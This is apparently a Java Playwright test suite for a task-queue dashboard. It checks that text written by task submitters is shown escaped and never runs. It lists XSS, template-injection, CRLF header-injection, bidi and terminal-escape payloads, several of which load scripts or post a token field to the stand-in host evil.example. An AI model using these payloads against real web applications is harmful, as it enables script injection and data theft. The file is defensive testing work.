package io.headrace.cli.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.options.ColorScheme;
import io.headrace.cli.browser.Scene.Insult;
import io.headrace.task.LogLine;
import io.headrace.task.TaskId;
import io.headrace.task.TaskOptions;
import io.headrace.task.TaskState;
import io.headrace.testkit.TestRedis;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Whoever submits a task chooses what operators see: no text of theirs may run, load, ask, or hide the rest of a page. */
class HostileTextTest extends BrowserTest {

    private static final String WORD = "W".repeat(100_000);

    private static final List<String> TEXTS = List.of(
            "<script>window.canary = 1</script>",
            "<img src=x onerror=\"window.canary = 2\">",
            "\"><svg onload=alert(3)><iframe srcdoc='<script>parent.canary = 3</script>'></iframe>",
            "' autofocus onfocus='window.canary = 4' x='",
            "javascript:window.canary=5",
            "</textarea></title></style></pre><script src=\"//evil.example/x.js\"></script>",
            "<link rel=stylesheet href=http://evil.example/x.css><img src=http://evil.example/x.png>",
            "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
            "<form action=http://evil.example/><input name=token></form>",
            "${window.canary = 6} {{constructor.constructor('window.canary = 7')()}}",
            "{\"__html\": \"<img src=x onerror=window.canary=8>\", \"type\": \"script\", \"props\": {}}",
            "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\ufeff",
            "\u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 \u0000\b\u007f",
            "\ud83d\udc69\u200d\ud83d\ude80\ud83c\udff4\u200d\u2620\ufe0f Z\u0351\u034b\u0300a\u0310l\u0363g\u0306o\u0308",
            "a\r\nSet-Cookie: x=1\r\n\r\n<script>window.canary = 9</script>");

    private final List<TaskId> tasks = new ArrayList<>();
    private TestRedis redis;

    @BeforeAll
    void submit(TestRedis given) {
        redis = given;
        for (String text : TEXTS) {
            tasks.add(dead(new Insult(text, Map.of(text, text), true)));
            tasks.add(completed(new Insult(text, Map.of(text, text), false)));
        }
        tasks.add(dead(new Insult(WORD, Map.of(), true)));
        tasks.add(completed(new Insult(WORD, Map.of(), false)));
        tasks.add(scene().chargeLater(new Scene.Order(TEXTS.get(1), TEXTS.get(2), 1), Duration.ofHours(1)));
        tasks.add(scene().render(TEXTS.get(1) + TEXTS.get(2) + WORD));
    }

    @Override
    Scene scene(TestRedis given) {
        return Scene.withHistory(given);
    }

    private TaskId dead(Insult insult) {
        return scene().await(scene().shout(insult, withHeaders(Scene.twice(), insult.text())), TaskState.DEAD);
    }

    private TaskId completed(Insult insult) {
        return scene().await(
                        scene().shout(insult, withHeaders(TaskOptions.builder(), insult.text())), TaskState.COMPLETED);
    }

    private static TaskOptions.Builder withHeaders(TaskOptions.Builder options, String text) {
        return options.header("x-note", text.substring(0, Math.min(4000, text.length())))
                .header("__proto__", "<b>")
                .header("constructor", "javascript:alert(1)");
    }

    @Test
    void no_page_of_a_task_runs_what_its_submitter_wrote() {
        Dashboard dashboard = dashboard();
        for (TaskId id : tasks) {
            dashboard.open("/tasks/" + id);
            assertThat(dashboard.at("payload").or(dashboard.at("empty")).first())
                    .isVisible();
            assertThat(dashboard.at("facts")).isVisible();
            dashboard.assertHarmless();
        }
    }

    @Test
    void no_page_of_a_task_of_the_history_runs_what_its_submitter_wrote() {
        Dashboard dashboard = dashboard();
        for (TaskId id : tasks.subList(0, tasks.size() - 2)) {
            scene().awaitEnds(id, 1);
            dashboard.open("/tasks/" + id + "?end=last");
            assertThat(dashboard.at("from-history")).isVisible();
            assertThat(dashboard.at("facts")).isVisible();
            dashboard.assertHarmless();
        }
    }

    @Test
    void the_texts_are_shown_as_they_are() {
        Dashboard dashboard = dashboard();
        for (int i = 0; i < TEXTS.size(); i++) {
            dashboard.open("/tasks/" + tasks.get(2 * i));
            String error =
                    dashboard.at("attempt").first().locator(".attempt-error").textContent();
            assertThat(error).endsWith(": " + TEXTS.get(i));
            assertThat(dashboard.at("headers").textContent()).contains(TEXTS.get(i));
            String logged = dashboard
                    .at("attempt")
                    .first()
                    .getByTestId("log-line")
                    .first()
                    .textContent();
            String harmless =
                    new LogLine(Instant.EPOCH, TEXTS.get(i).lines().findFirst().orElseThrow()).text();
            assertThat(logged).endsWith(" " + harmless);
        }
    }

    @Test
    void no_list_and_no_address_runs_what_is_written_in_it() {
        Dashboard dashboard = dashboard();
        for (String view : views()) {
            dashboard.open(view);
            dashboard.assertHarmless();
        }
    }

    @Test
    void a_word_without_an_end_makes_no_page_wider_than_the_window() {
        Dashboard dashboard = dashboard(Chromium.PHONE, ColorScheme.DARK);
        List<String> all = new ArrayList<>(views());
        tasks.subList(tasks.size() - 4, tasks.size()).forEach(id -> all.add("/tasks/" + id));
        for (String view : all) {
            dashboard.open(view);
            assertThat(dashboard.page().evaluate("() => document.documentElement.scrollWidth - innerWidth"))
                    .as("how much " + view.substring(0, Math.min(60, view.length())) + " is wider than the window")
                    .isEqualTo(0);
        }
    }

    @Test
    void dialogs_show_hostile_texts_harmlessly() {
        Dashboard dashboard = dashboard();
        for (int i = 0; i < TEXTS.size(); i++) {
            dashboard.open("/tasks/" + tasks.get(2 * i));
            dashboard.at("edit").click();
            assertThat(dashboard.at("payload-check")).hasText("Valid JSON");
            dashboard.at("field-reason").fill(TEXTS.get(i));
            dashboard.at("dialog-cancel").click();
        }
        dashboard.open("/dead");
        dashboard.at("bulk-retry").click();
        assertThat(dashboard.at("bulk-dialog").locator(".samples")).isVisible();
        dashboard.at("dialog-cancel").click();
    }

    @Test
    void what_others_wrote_into_redis_by_hand_is_shown_harmlessly() {
        String text = TEXTS.get(1) + TEXTS.get(0);
        String queue = redis.prefix() + ":{" + Scene.HOSTILE + "}:";
        redis.redis().xadd(queue + "ready:3", Map.of("type", text, "payload", text));
        redis.redis().xadd(queue + "ready:3", Map.of("type", text, "payload", text, "opts", text));
        redis.redis().xadd(queue + "ready:3", Map.of("payload", text));
        redis.redis()
                .xadd(redis.prefix() + ":audit", Map.of("by", text, "action", text, "target", text, "reason", text));
        redis.redis().hset(queue + "causes", text, "3");
        redis.redis()
                .hset(
                        queue + "control",
                        Map.of(
                                "pausedBy",
                                text,
                                "pausedReason",
                                text,
                                "pausedSince",
                                "1764000000000",
                                "pausedUntil",
                                ""));
        Dashboard dashboard = dashboard();
        dashboard.open("/audit");
        assertThat(dashboard.one("audit-row", text)).isVisible();
        dashboard.open("/queues/" + Scene.HOSTILE);
        assertThat(dashboard.at("pause-banner")).containsText(text);
        assertThat(dashboard.one("cause-row", text).first()).isVisible();
        for (String view : views()) {
            dashboard.open(view);
            dashboard.assertHarmless();
        }
        redis.redis().del(queue + "control");
    }

    /** Every list, and addresses that somebody may send to an operator. */
    private static List<String> views() {
        List<String> views = new ArrayList<>(List.of(
                "/",
                "/queues",
                "/queues/" + Scene.HOSTILE,
                "/tasks?queue=" + Scene.HOSTILE,
                "/tasks?state=dead",
                "/tasks?state=running",
                "/tasks?type=javascript:window.canary-1",
                "/dead",
                "/delayed",
                "/workers",
                "/history",
                "/history?queue=" + Scene.HOSTILE,
                "/history/types?queue=" + Scene.HOSTILE,
                "/history/types?only=javascript:window.canary-1",
                "/history/errors?queue=" + Scene.HOSTILE,
                "/audit",
                "/api"));
        for (String text : List.of(TEXTS.get(0), TEXTS.get(1), TEXTS.get(2), TEXTS.get(4))) {
            String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
            views.add("/" + encoded);
            views.add("/queues?name=" + encoded + "&sort=" + encoded);
            views.add("/history?type=" + encoded + "&error=" + encoded + "&worker=" + encoded + "&payload=text%3D"
                    + encoded);
            views.add("/history/types?only=" + encoded);
            views.add(
                    "/tasks?text=" + encoded + "&error=" + encoded + "&worker=" + encoded + "&queue=" + Scene.HOSTILE);
        }
        return views;
    }
}
